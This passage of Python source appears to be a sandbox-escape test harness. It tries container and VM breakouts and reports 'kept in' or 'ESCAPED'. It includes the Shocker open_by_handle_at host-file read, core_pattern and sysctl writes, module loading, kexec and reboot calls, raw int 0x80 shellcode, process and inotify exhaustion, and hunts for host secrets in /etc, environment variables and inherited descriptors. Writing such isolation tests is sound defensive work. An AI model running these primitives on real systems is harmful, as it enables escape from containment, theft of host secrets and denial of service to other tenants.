    buffer = ctypes.create_string_buffer(64)
    vector = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), 64)
    return call(numbers(278, 75), write, vector, 1, 0)


@attempt("kernel", "filter")
def cachestat(context: Context) -> object:
    fd = os.open(__file__, os.O_RDONLY)
    return call(451, fd, (ctypes.c_uint64 * 2)(0, 4096), _zeros, 0)


@attempt("kernel", "filter")
def madvise_mergeable(context: Context) -> object:
    buffer = ctypes.create_string_buffer(3 * 4096)
    return call(numbers(28, 233), (ctypes.addressof(buffer) + 4095) & ~4095, 4096, 12)


@attempt("kernel", "filter")
def core_handler_of_host(context: Context) -> object:
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    if resource.getrlimit(resource.RLIMIT_CORE) != (0, 0):
        raise PermissionError("the limit stays at the value for which no handler runs")
    return "a crash runs what core_pattern names"


def a_program() -> tuple[ctypes.Array[ctypes.c_char], ctypes.Array[ctypes.c_char]]:
    """struct sock_fprog with one instruction, "let it pass"; and the instruction, which has to live as long."""
    instruction = ctypes.create_string_buffer(struct.pack("<HBBI", 6, 0, 0, 0x7FFF0000))
    return ctypes.create_string_buffer(
        struct.pack("<HxxxxxxQ", 1, ctypes.addressof(instruction))
    ), instruction


@attempt("shared counts", "processes counted together", user="root", modes=("subuid",))
def processes_of_many_users(context: Context) -> object:
    """The limit is one for each user, and the VM's root can be any of 65,536."""
    ready, done = os.pipe(), os.pipe()
    for uid in range(3000, 3004):
        if os.fork() == 0:
            os.close(done[1])
            os.setuid(uid)
            try:
                for _ in range(400):
                    if os.fork() == 0:
                        os.read(done[0], 1)
                        os._exit(0)
                    os.write(ready[1], b".")
            except BlockingIOError:
                pass
            os.close(ready[1])
            os.read(done[0], 1)
            os._exit(0)
    os.close(ready[1])
    made = 0
    while made < 1200 and select.select([ready[0]], [], [], 3)[0] and (some := os.read(ready[0], 4096)):
        made += len(some)
    os.close(done[1])
    if made < 1200:
        raise PermissionError(f"{made} processes, and no more")
    return f"{made} processes, where each user may have 512"


@attempt("shared counts", "filter")
def programs_of_sockets(context: Context) -> object:
    """Compiled, they take of what the machine has for all: a few thousand, and nobody's filter can be loaded."""
    program, _kept = a_program()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        return call(numbers(54, 208), sock.fileno(), 1, 26, program, 16)


@attempt("shared counts", "filter")
def programs_of_listening_groups(context: Context) -> object:
    program, _kept = a_program()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        return call(numbers(54, 208), sock.fileno(), 1, 51, program, 16)


@attempt("shared counts", "filter")
def filters_that_outlive_their_process(context: Context) -> object:
    """Held by a descriptor, so that no limit of processes bounds them."""
    call(numbers(157, 167), 38, 1, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS
    program, _kept = a_program()
    return call(numbers(317, 277), 1, 8, program)


@attempt("kernel", "filter")
def module_of_bridges(context: Context) -> object:
    """Asked for the version of the bridge interface, the kernel loads the module first."""
    with socket.socket() as sock:
        return reaches(
            (errno.EOPNOTSUPP, errno.ENOPKG),
            numbers(16, 29),
            sock.fileno(),
            0x8940,
            ctypes.create_string_buffer(64),
        )


@attempt("kernel", "filter")
def module_of_vlans(context: Context) -> object:
    with socket.socket() as sock:
        return reaches(
            (errno.ENODEV, errno.EINVAL, errno.ENOPKG), numbers(16, 29), sock.fileno(), 0x8982,
            ctypes.create_string_buffer(64),
        )  # fmt: skip


INT_80 = bytes.fromhex("b814000000cd80c3")  # mov eax, 20 (getpid); int 0x80; ret


@attempt("kernel", "filter")
def int_80(context: Context) -> object:
    if not _X86:
        raise LookupError("no such thing here")
    import mmap

    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(INT_80)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if function() != os.getpid():
        raise OSError(errno.ENOSYS, "no 32-bit calls")
    return "calls by other numbers"


def administrators(number: int, *arguments: object, expected: tuple[int, ...] = (), name: str) -> None:
    """An attempt that is one call of the host's administrator."""

    def body(context: Context) -> object:
        return reaches(expected, number, *arguments)

    body.__name__ = name
    privileged("kernel")(body)


BAD = (errno.EINVAL, errno.EFAULT, errno.ENOENT, errno.ENOEXEC, errno.ENODEV, errno.ENOTBLK)
administrators(numbers(175, 105), _zeros, 64, b"", expected=BAD, name="init_module")
administrators(313 if _X86 else 273, 0, b"", 0, expected=(*BAD, errno.EBADF), name="finit_module")
administrators(numbers(176, 106), b"no_such_module_here", 0, expected=BAD, name="delete_module")
administrators(numbers(246, 104), 0, 0, 0, 0xFFFF, expected=BAD, name="kexec_load")
administrators(numbers(167, 224), b"/nonexistent", 0, expected=BAD, name="swapon")
administrators(numbers(163, 89), b"/nonexistent", expected=BAD, name="acct")
administrators(numbers(170, 161), b"", -1, expected=BAD, name="sethostname")
administrators(numbers(169, 142), 1, 2, 3, 0, expected=BAD, name="reboot")
administrators(numbers(103, 116), 10, 0, 0, name="syslog_size")
administrators(numbers(103, 116), 3, ctypes.create_string_buffer(4096), 4096, name="kernel_log")
administrators(numbers(179, 60), 0x800001 << 8, b"/nonexistent", 0, 0, expected=BAD, name="quotactl")
_map = ctypes.create_string_buffer(struct.pack("<IIII", 2, 4, 8, 1), 128)
administrators(numbers(321, 280), 0, _map, 128, name="bpf_map")
administrators(numbers(164, 170), None, struct.pack("ii", 0, 0), name="settimeofday_zone")
if _X86:
    administrators(173, 0x80, 1, 1, name="ioperm")
    administrators(172, 3, name="iopl")


@privileged("kernel")
def clock_tick(context: Context) -> object:
    timex = (ctypes.c_long * 26)()
    call(numbers(159, 171), timex)
    tick = timex[11]
    timex[0] = 0x4000  # ADJ_TICK, to what it is
    timex[11] = tick
    return call(numbers(159, 171), timex)


@privileged("kernel", proof="secret")
def open_by_handle(context: Context) -> object:
    """The Shocker: from any file of the host's file system to any other, by inode number."""
    anchor = os.open(context["host_mount"], os.O_RDONLY)
    handle = ctypes.create_string_buffer(struct.pack("<IiII", 8, 1, context["secret_inode"], 0), 128)
    fd = call(numbers(304, 265), anchor, handle, os.O_RDONLY)
    return os.read(fd, 4096).decode()


# ---------------------------------------------------------------- /proc and /sys

# Those that say something on a host like this one. The rest of the list is masked where it exists.
MASKED = ("kallsyms", "interrupts", "config.gz", "zoneinfo", "softirqs")
MASKED_TO_ROOT = ("timer_list", "slabinfo", "vmallocinfo", "kpagecount")


def _read_masked(name: str) -> None:
    def body(context: Context) -> object:
        with open(f"/proc/{name}", "rb") as file:
            content = file.read(4096)
        if not content:
            raise LookupError("nothing in it")
        return f"{len(content)} bytes"

    body.__name__ = "proc_" + name.replace(".", "_").replace("-", "_")
    if name in MASKED:
        attempt("proc", "masked /proc")(body)
    else:
        attempt("proc", "masked /proc", "user namespace", user="root", modes=ROOT)(body)


for _name in (*MASKED, *MASKED_TO_ROOT):
    _read_masked(_name)


def _write_sysctl(name: str) -> None:
    def body(context: Context) -> object:
        return f"descriptor {os.open(f'/proc/sys/{name}', os.O_WRONLY)}"

    body.__name__ = "sysctl_" + name.rpartition("/")[2]
    attempt("proc", "read-only /proc", "user namespace", user="root", modes=ROOT)(body)


for _name in (
    "kernel/core_pattern",
    "kernel/randomize_va_space",
    "vm/drop_caches",
    "kernel/panic",
    "fs/file-max",
):
    _write_sysctl(_name)


@attempt("proc", "directories of /proc masked")
def file_systems_of_host(context: Context) -> object:
    """What the host has mounted, where its disks are full, what servers it knows."""
    found = [os.path.join(where, name) for where, _, names in os.walk("/proc/fs") for name in names]
    if not found:
        raise PermissionError("there is nothing in /proc/fs")
    return found[:3]


@attempt("proc", "empty /sys")
def sys_of_host(context: Context) -> object:
    return os.listdir("/sys/class")


@attempt("proc", "empty /sys")
def cgroups_of_host(context: Context) -> object:
    return os.listdir("/sys/fs/cgroup")


@attempt("proc", "own cgroup namespace")
def cgroup_path_of_host(context: Context) -> object:
    with open("/proc/self/cgroup") as file:
        for line in file:
            path = line.rstrip("\n").split(":", 2)[2]
            if path.strip("/"):
                return path
    raise LookupError("only /")


# ---------------------------------------------------------------- inherited things


@attempt("inherited", "descriptors closed", proof="secret")
def descriptors_of_host(context: Context) -> object:
    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2:
            try:
                fd = os.open(os.path.basename(context["secret_path"]), os.O_RDONLY, dir_fd=int(name))
                return os.read(fd, 4096).decode()
            except OSError:
                continue
    raise LookupError("nothing but 0 to 2")


@attempt("inherited", "environment of its own", proof="secret")
def environment_of_host(context: Context) -> object:
    return dict(os.environ)


@attempt("inherited", "own UTS namespace")
def name_of_host(context: Context) -> object:
    if os.uname().nodename != context["nodename"]:
        raise PermissionError("a name of its own")
    return os.uname().nodename


@attempt("inherited", "public /etc only", proof="secret", modes=ROOT)
def etc_of_host(context: Context) -> object:
    def found() -> Iterator[object]:
        for directory, _, names in os.walk("/etc"):
            for name in names:
                try:
                    with open(f"{directory}/{name}", errors="replace") as file:
                        text = file.read(100_000)
                except OSError:
                    continue
                if context["etc_mark"] in text:
                    yield text

    return first(found())


# ---------------------------------------------------------------- what the kernel counts for all


@attempt("shared counts", "user of its own", proof="neighbour", modes=ROOT)
def every_inotify_instance(context: Context) -> object:
    full, holder = os.pipe()
    if os.fork() == 0:
        try:
            while True:
                libc("inotify_init1", 0)
        except OSError:
            os.write(holder, b"x")
        time.sleep(2)
        os._exit(0)
    os.read(full, 1)
    return "held for a while by a child: the neighbour is asked next"


@attempt("shared counts", "terminals counted")
def every_terminal(context: Context) -> object:
    count = 0
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    while count < 500:
        os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
        count += 1
    return f"{count} terminals, and more"


def main() -> int:
    """Run one attempt."""
    context = json.loads(sys.argv[2])
    try:
        got = ATTEMPTS[sys.argv[1]].body(context)
    except BaseException as error:
        print(f"kept in: {type(error).__name__}: {error}")
        return 1
    print(f"ESCAPED {got}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
